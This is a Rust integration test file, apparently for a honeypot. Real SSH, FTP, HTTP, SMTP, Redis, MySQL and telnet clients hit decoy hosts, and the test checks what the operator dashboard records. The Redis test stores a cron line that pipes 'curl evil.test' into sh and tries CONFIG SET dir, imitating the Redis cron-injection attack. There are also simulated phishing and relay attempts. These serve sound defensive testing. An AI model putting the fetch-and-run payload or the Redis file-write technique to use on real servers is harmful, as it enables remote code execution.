//! Real clients from a network namespace of their own, and what the operator then sees, with both databases.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "tests")]

use serde_json::Value;
use sha2::{Digest, Sha256};
use trials::{mariadb, visitor::Visitor, world::World};

const SSH: &[&str] = &[
    "-F",
    "none",
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "LogLevel=ERROR",
    "-o",
    "PreferredAuthentications=password",
    "-o",
    "NumberOfPasswordPrompts=1",
    "-o",
    "ConnectTimeout=20",
];

#[tokio::test(flavor = "multi_thread")]
async fn every_real_client_is_served_and_recorded() {
    let world = World::up(&[]).await;
    everybody_visits(&world).await;
    assert!(world.stop().await);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_real_client_is_served_and_recorded_in_mariadb() {
    let server = mariadb::Server::start().expect("mariadb-server is not installed: scripts/setup test installs it");
    let url = server.database_url();
    let world = World::up(&["--database", &url]).await;
    everybody_visits(&world).await;
    assert!(world.stop().await);
}

/// Each client comes from an address of its own, all at the same time.
async fn everybody_visits(world: &World) {
    let [a, b, c, d, e, f, g, h] = std::array::from_fn(|_| Visitor::beside(world));
    tokio::join!(
        openssh(world, &a, &b),
        curl(world, &c),
        lftp(world, &d),
        swaks(world, &e),
        redis_cli(world, &f),
        mysql(world, &g),
        telnet(world, &h),
    );
    let visitors = [&a, &c, &d, &e, &f, &g, &h];
    if world.is_native() {
        let seen = world.until("/attackers?limit=100", |l| l["total"].as_u64() >= Some(visitors.len() as u64)).await;
        let addresses: Vec<&str> = seen["data"].as_array().unwrap().iter().filter_map(|a| a["ip"].as_str()).collect();
        for visitor in visitors {
            assert!(addresses.contains(&visitor.ip.to_string().as_str()), "{} is no attacker of {addresses:?}", visitor.ip);
        }
    }
}

async fn openssh(world: &World, visitor: &Visitor, other: &Visitor) {
    let (ip, port, decky) = world.find("ssh");
    let (user, password) = world.account(&decky);
    let port = port.to_string();
    let login = format!("{user}@{ip}");
    let with = |password: &str, program: &str, flags: &[&str], rest: &[&str]| -> Vec<String> {
        let p = if program == "ssh" { "-p" } else { "-P" };
        [&["-p", password, program], SSH, flags, &[p, &port], rest].concat().into_iter().map(str::to_owned).collect()
    };
    let run = async |by: &Visitor, args: Vec<String>, input: &[u8]| {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        by.run_with("sshpass", &args, input, trials::world::PATIENCE).await
    };
    // A wrong password: sshpass ends with 5 if the server asked again or refused.
    assert_ne!(run(visitor, with("surely-not-this", "ssh", &[], &[&login, "id"]), b"").await.code, 0);
    let said = run(visitor, with(&password, "ssh", &[], &[&login, "id -un; hostname"]), b"").await.ok();
    let hostname = world.state()["deckies"][&decky]["persona"]["hostname"].as_str().unwrap().to_owned();
    assert_eq!(said, format!("{user}\n{hostname}\n"));
    // scp both ways, old protocol and new, each in a session of its own.
    let bytes: Vec<u8> = (0..70_000_u32).map(|n| n.wrapping_mul(2_654_435_761).to_be_bytes()[0]).collect();
    let old: Vec<u8> = bytes.iter().rev().copied().collect();
    visitor.file("new.bin", &bytes);
    visitor.file("old.bin", &old);
    run(visitor, with(&password, "scp", &[], &["new.bin", &format!("{login}:/tmp/new.bin")]), b"").await.ok();
    run(visitor, with(&password, "scp", &["-O"], &["old.bin", &format!("{login}:old.bin")]), b"").await.ok();
    run(visitor, with(&password, "scp", &[], &[&format!("{login}:old.bin"), "old.back"]), b"").await.ok();
    run(visitor, with(&password, "scp", &["-O"], &[&format!("{login}:/tmp/new.bin"), "new.back"]), b"").await.ok();
    assert!(visitor.read("new.back") == bytes && visitor.read("old.back") == old, "what was brought is found again");
    // sftp both ways.
    visitor.file("drop.txt", "left by sftp\n");
    run(visitor, with(&password, "sftp", &[], &[&login]), b"put drop.txt\nmkdir inner\nrename drop.txt inner/kept.txt\nbye\n").await.ok();
    let listed = run(visitor, with(&password, "sftp", &[], &[&login]), b"ls -l inner\nget inner/kept.txt back.txt\nbye\n").await.ok();
    assert!(listed.contains("kept.txt"), "{listed}");
    assert_eq!(visitor.read("back.txt"), b"left by sftp\n");
    let summed = run(visitor, with(&password, "ssh", &[], &[&login, "sha256sum /tmp/new.bin"]), b"").await.ok();
    assert_eq!(summed, format!("{}  /tmp/new.bin\n", sha(&bytes)));
    if world.is_native() {
        // Somebody else does not.
        assert_ne!(run(other, with(&password, "ssh", &[], &[&login, "cat /tmp/new.bin"]), b"").await.code, 0);
    }

    // What the operator sees.
    let me = visitor.ip;
    let offered = world.until(&format!("/credentials?service=ssh&attacker_ip={me}"), |c| c["total"].as_i64() >= Some(2)).await;
    let outcomes = |secret: &str| find(&offered, "secret_printable", secret)["outcome"].clone();
    assert_eq!((outcomes("surely-not-this"), outcomes(&password)), ("failure".into(), "success".into()));
    let ended = format!("/logs?search=attacker:{me}%20service:ssh%20event:disconnect&limit=100");
    world.until(&ended, |l| l["total"].as_i64() >= Some(if world.is_native() { 9 } else { 1 })).await;
    let logs = world.all(&format!("/logs?search=attacker:{me}%20service:ssh")).await;
    has_syn(world, &logs);
    let client = logs.iter().find(|r| r["event_type"] == "ssh_client").expect("the client's KEXINIT is kept");
    assert!(client["fields"]["ssh_banner"].as_str().unwrap().starts_with("SSH-2.0-OpenSSH"), "{client}");
    assert_eq!(client["fields"]["hassh"].as_str().unwrap().len(), 32, "{client}");
    let kept = world
        .until(&format!("/artifacts?attacker_ip={me}&limit=100"), |a| {
            [&bytes[..], &old, b"left by sftp\n"].iter().all(|b| rows(a).iter().any(|r| r["sha256"] == sha(b)))
        })
        .await;
    for row in rows(&kept).iter().filter(|r| r["sha256"] == sha(&bytes)) {
        assert_eq!((row["way"].as_str(), row["size"].as_u64(), row["whole"].as_bool()), (Some("upload"), Some(70_000), Some(true)));
    }
    assert_eq!(world.get_bytes(&format!("/artifacts/{}/download", sha(&bytes))).await, bytes);
    world.until(&format!("/sessions?attacker_ip={me}&limit=100"), |s| rows(s).iter().any(|s| s["logged_in"] == true)).await;
}

async fn curl(world: &World, visitor: &Visitor) {
    let me = visitor.ip;
    let (ip, port, decky) = world.find("http");
    let product = software(world, &decky, "http");
    let head = visitor.run("curl", &["-sS", "-i", "-u", "admin:winter-trial", &format!("http://{ip}:{port}/admin/?q=%27")]).await.ok();
    let server = head.lines().find_map(|l| l.strip_prefix("Server: ")).unwrap_or_default().to_owned();
    assert!(server.to_lowercase().starts_with(&product.to_lowercase()), "{product} says it is {server}");
    let (ip, port, decky) = world.find("https");
    let page = visitor.run("curl", &["-sSk", "-v", "--tls-max", "1.3", &format!("https://{ip}:{port}/")]).await;
    let fqdn = fqdn(world, &decky);
    assert!(page.code == 0 && !page.out.is_empty(), "{}", page.all());
    assert!(
        page.all().contains(&fqdn) || page.all().contains(fqdn.split('.').next().unwrap()),
        "whose certificate is this?\n{}",
        page.all()
    );
    world.until(&format!("/logs?search=attacker:{me}%20event:disconnect"), |l| l["total"].as_i64() >= Some(2)).await;
    let logs = world.all(&format!("/logs?search=attacker:{me}")).await;
    has_syn(world, &logs);
    let request = logs.iter().find(|r| r["event_type"] == "request" && r["service"] == "http").unwrap();
    assert_eq!(request["fields"]["path"], "/admin/?q=%27");
    assert!(request["fields"]["user_agent"].as_str().unwrap().starts_with("curl/"));
    assert!(logs.iter().any(|r| r["event_type"] == "request" && r["service"] == "https"));
    let hello = logs.iter().find(|r| r["event_type"] == "tls_client_hello").expect("the ClientHello is kept");
    assert_eq!(hello["fields"]["ja3"].as_str().unwrap().len(), 32, "{hello}");
    assert!(hello["fields"]["ja4"].as_str().unwrap().starts_with("t13"), "{hello}");
    let offered = world.until(&format!("/credentials?service=http&attacker_ip={me}"), |c| c["total"].as_i64() >= Some(1)).await;
    assert_eq!(find(&offered, "secret_printable", "winter-trial")["principal"], "admin");
    let evidence = world.all(&format!("/bounty?attacker_ip={me}")).await;
    for kind in ["ja3", "ja4", "user_agent"] {
        assert!(evidence.iter().any(|b| b["payload"]["kind"] == kind), "no {kind} in {evidence:#?}");
    }
    if let Some(me) = visitor.ip6 {
        let state = world.state();
        let ip = state["deckies"][&decky]["persona"]["ipv6"][0].as_str().expect("the decky has an IPv6 address").to_owned();
        visitor.run("curl", &["-sSk", "-g", &format!("https://[{ip}]:{port}/six")]).await.ok();
        let logs = world.until(&format!("/logs?search=attacker:%22{me}%22%20event:request"), |l| l["total"].as_i64() >= Some(1)).await;
        assert_eq!(rows(&logs)[0]["fields"]["path"], "/six");
    }
}

async fn lftp(world: &World, visitor: &Visitor) {
    let me = visitor.ip;
    let (ip, port, decky) = world.find("ftp");
    let (user, password) = world.account(&decky);
    let bytes: Vec<u8> = (0..50_000_u32).map(|n| n.wrapping_mul(40_503).to_be_bytes()[2]).collect();
    visitor.file("loot.bin", &bytes);
    let settings = "set cmd:fail-exit yes; set net:timeout 20; set net:max-retries 1; set xfer:clobber yes";
    let open = |password: &str| format!("open -p {port} -u '{user}','{password}' {ip}");
    let wrong = visitor.run("lftp", &["-c", &format!("{settings}; {}; ls", open("nope-nope"))]).await;
    assert!(wrong.code != 0 && wrong.all().contains("530"), "{}", wrong.all());
    let put = visitor.run("lftp", &["-c", &format!("{settings}; {}; put loot.bin; ls", open(&password))]).await.ok();
    assert!(put.contains("loot.bin") && put.contains("50000"), "{put}");
    let got = visitor.run("lftp", &["-c", &format!("{settings}; {}; get loot.bin -o back.bin; ls", open(&password))]).await.ok();
    assert!(got.contains("loot.bin"), "{got}");
    assert!(visitor.read("back.bin") == bytes, "what was brought is found again");
    let offered = world.until(&format!("/credentials?service=ftp&attacker_ip={me}"), |c| c["total"].as_i64() >= Some(2)).await;
    assert_eq!(find(&offered, "secret_printable", "nope-nope")["outcome"], "failure");
    assert_eq!(find(&offered, "secret_printable", &password)["outcome"], "success");
    world.until(&format!("/artifacts?attacker_ip={me}"), |a| rows(a).iter().any(|r| r["sha256"] == sha(&bytes))).await;
    assert_eq!(world.get_bytes(&format!("/artifacts/{}/download", sha(&bytes))).await, bytes);
    let path = format!("/logs?search=attacker:{me}%20service:ftp%20event:command&limit=100");
    let verbs: [&[&str]; 4] = [&["USER "], &["STOR "], &["RETR "], &["PASV", "EPSV"]];
    let said = |logs: &Value, verb: &str| rows(logs).iter().any(|r| r["fields"]["command"].as_str().is_some_and(|c| c.starts_with(verb)));
    world.until(&path, |logs| verbs.iter().all(|either| either.iter().any(|verb| said(logs, verb)))).await;
}

async fn swaks(world: &World, visitor: &Visitor) {
    let me = visitor.ip;
    let (ip, port, decky) = world.find("smtp");
    let (user, _) = world.account(&decky);
    let to = format!("{user}@{}", fqdn(world, &decky));
    let args = ["--server", &ip, "--port", &port.to_string(), "--ehlo", "mx.visitor.test", "--from", "boss@visitor.test", "--to", &to];
    let said = visitor.run("swaks", &[&args[..], &["--header", "Subject: wire it today", "--body", "kindly\n.\nhelp"]].concat()).await.ok();
    assert!(said.contains("250 2.0.0 Ok: queued as"), "{said}");
    let kept = world.until(&format!("/artifacts?attacker_ip={me}"), |a| rows(a).iter().any(|r| r["way"] == "mail")).await;
    let mail = find(&kept, "way", "mail");
    let text = String::from_utf8(world.get_bytes(&format!("/artifacts/{}/download", mail["sha256"].as_str().unwrap())).await).unwrap();
    assert!(text.contains("Subject: wire it today") && text.contains("kindly\r\n.\r\nhelp"), "{text}");
    let logs = world.until(&format!("/logs?search=attacker:{me}%20event:message_stored"), |l| l["total"].as_i64() >= Some(1)).await;
    assert_eq!(rows(&logs)[0]["fields"]["rcpt_to"][0], to.as_str());
    // Nobody's mail but its own.
    let relayed = visitor.run("swaks", &[&args[..8], &["--to", "victim@elsewhere.test", "--quit-after", "RCPT"]].concat()).await;
    assert!(relayed.code != 0 && relayed.all().contains("Relay access denied"), "{}", relayed.all());
}

async fn redis_cli(world: &World, visitor: &Visitor) {
    let me = visitor.ip;
    let (ip, port, decky) = world.find("redis");
    let version = version(world, &decky, "redis");
    let port = port.to_string();
    let ask = async |args: &[&str]| visitor.run("redis-cli", &[&["-h", &ip, "-p", &port], args].concat()).await.ok();
    assert_eq!(ask(&["SET", "crackit", "\n\n*/1 * * * * curl evil.test|sh\n\n"]).await, "OK\n");
    assert_eq!(ask(&["--raw", "GET", "crackit"]).await, "\n\n*/1 * * * * curl evil.test|sh\n\n\n", "its own key, in a later session");
    // The way in of old: where files go. Redis protects it from 7.0 on.
    let protected = version.split('.').next().and_then(|n| n.parse::<u32>().ok()) >= Some(7);
    let refused = "ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\n\n";
    assert_eq!(ask(&["CONFIG", "SET", "dir", "/var/lib/redis"]).await, if protected { refused } else { "OK\n" });
    assert_eq!(ask(&["CONFIG", "SET", "maxmemory-samples", "7"]).await, "OK\n");
    assert!(ask(&["CONFIG", "GET", "dir"]).await.contains("/var/lib/redis"));
    let info = ask(&["INFO", "server"]).await;
    assert!(info.contains(&format!("redis_version:{version}")) && info.contains(&format!("tcp_port:{port}")), "{info}");
    let path = format!("/logs?search=attacker:{me}%20service:redis%20event:command&limit=100");
    let logs = world.until(&path, |l| l["total"].as_i64() >= Some(6)).await;
    for start in ["SET crackit", "GET crackit", "CONFIG SET dir", "CONFIG SET maxmemory-samples", "CONFIG GET dir", "INFO server"] {
        assert!(rows(&logs).iter().any(|r| r["fields"]["command"].as_str().is_some_and(|c| c.starts_with(start))), "no {start}: {logs:#}");
    }
}

async fn mysql(world: &World, visitor: &Visitor) {
    let me = visitor.ip;
    let (ip, port, decky) = world.find("mysql");
    let (user, password) = world.account(&decky);
    let port = port.to_string();
    let ask = async |password: &str, statement: &str| {
        let secret = format!("-p{password}");
        visitor.run("mysql", &["--no-defaults", "-h", &ip, "-P", &port, "-u", &user, &secret, "--batch", "-e", statement]).await
    };
    let wrong = ask("nope-nope", "SELECT 1").await;
    assert!(wrong.code == 1 && wrong.all().contains(&format!("ERROR 1045 (28000): Access denied for user '{user}'@")), "{}", wrong.all());
    let shown = ask(&password, "SHOW DATABASES").await.ok();
    assert!(shown.starts_with("Database\n") && shown.contains("information_schema\n"), "{shown}");
    let version = version(world, &decky, "mysql");
    let selected = ask(&password, "SELECT @@version, 6*7 AS answer, CURRENT_USER()").await.ok();
    assert!(selected.contains(&version) && selected.contains("\t42\t"), "{selected} is not {version}");
    let offered = world.until(&format!("/credentials?service=mysql&attacker_ip={me}"), |c| c["total"].as_i64() >= Some(3)).await;
    for row in rows(&offered) {
        assert_eq!((row["secret_kind"].as_str(), row["principal"].as_str()), (Some("mysql_native_password"), Some(user.as_str())));
        assert!(
            !row["fields"]["challenge_hex"].as_str().unwrap_or_default().is_empty(),
            "without the challenge it cannot be cracked: {row}"
        );
    }
    assert!(rows(&offered).iter().any(|r| r["outcome"] == "failure") && rows(&offered).iter().any(|r| r["outcome"] == "success"));
    let path = format!("/logs?search=attacker:{me}%20service:mysql&limit=100");
    world.until(&path, |l| rows(l).iter().any(|r| r["msg"].as_str().is_some_and(|m| m.contains("SHOW DATABASES")))).await;
}

async fn telnet(world: &World, visitor: &Visitor) {
    let me = visitor.ip;
    let (ip, port, decky) = world.find("telnet");
    let (user, password) = world.account(&decky);
    let [login, wrong, right] = [format!("{user}\n"), "nope-nope\n".to_owned(), format!("{password}\n")];
    let steps: [(&str, &str); 6] = [
        ("login: ", &login),
        ("assword: ", &wrong),
        ("login: ", &login),
        ("assword: ", &right),
        ("$ |# ", "echo came-$((20+3)) > /tmp/left; cat /tmp/left\n"),
        ("came-23", "exit\n"),
    ];
    let shown = visitor.converse("telnet", &[&ip, &port.to_string()], &steps).await;
    assert!(shown.contains("Login incorrect") && shown.contains("\ncame-23"), "{shown}");
    let offered = world.until(&format!("/credentials?service=telnet&attacker_ip={me}"), |c| c["total"].as_i64() >= Some(2)).await;
    assert_eq!(find(&offered, "secret_printable", "nope-nope")["outcome"], "failure");
    assert_eq!(find(&offered, "secret_printable", &password)["outcome"], "success");
    let path = format!("/logs?search=attacker:{me}%20service:telnet&limit=100");
    let seen = |l: &Value| {
        let command = |r: &Value| r["fields"]["command"].as_str().is_some_and(|c| c.starts_with("echo came-"));
        rows(l).iter().any(command) && rows(l).iter().any(|r| r["event_type"] == "disconnect")
    };
    has_syn(world, rows(&world.until(&path, seen).await));
    let recorded = |s: &Value| rows(s).iter().any(|s| s["service"] == "telnet" && !s["recording"].is_null());
    world.until(&format!("/sessions?attacker_ip={me}&recorded=true"), recorded).await;
}

fn rows(page: &Value) -> &[Value] {
    page["data"].as_array().map_or(&[], Vec::as_slice)
}

/// The row of `page` whose `key` is `value`.
fn find<'a>(page: &'a Value, key: &str, value: &str) -> &'a Value {
    rows(page).iter().find(|r| r[key] == value).unwrap_or_else(|| panic!("no {key} {value} in {page:#}"))
}

/// Every connection's SYN was saved and read, and tells of a Linux.
fn has_syn(world: &World, logs: &[Value]) {
    let connects: Vec<_> = logs.iter().filter(|r| r["event_type"] == "connect").collect();
    assert!(!connects.is_empty());
    for connect in connects {
        let fields = &connect["fields"];
        assert!(
            !fields["syn"].as_str().unwrap_or_default().is_empty() && !fields["tcp_signature"].as_str().unwrap_or_default().is_empty(),
            "{connect}"
        );
        if world.is_native() {
            assert_eq!((fields["tcp"]["ttl"].as_u64(), fields["tcp"]["hops"].as_u64()), (Some(64), Some(0)), "{connect}");
        }
    }
}

fn sha(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

fn service<'a>(state: &'a Value, decky: &str, service: &str) -> &'a Value {
    let services = state["deckies"][decky]["persona"]["services"].as_array().unwrap();
    &services.iter().find(|s| s["name"] == service).unwrap()["software"]
}

fn software(world: &World, decky: &str, name: &str) -> String {
    service(&world.state(), decky, name)["product"].as_str().unwrap().to_owned()
}

fn version(world: &World, decky: &str, name: &str) -> String {
    service(&world.state(), decky, name)["version"].as_str().unwrap().to_owned()
}

fn fqdn(world: &World, decky: &str) -> String {
    let persona = &world.state()["deckies"][decky]["persona"];
    format!("{}.{}", persona["hostname"].as_str().unwrap(), persona["domain"].as_str().unwrap())
}
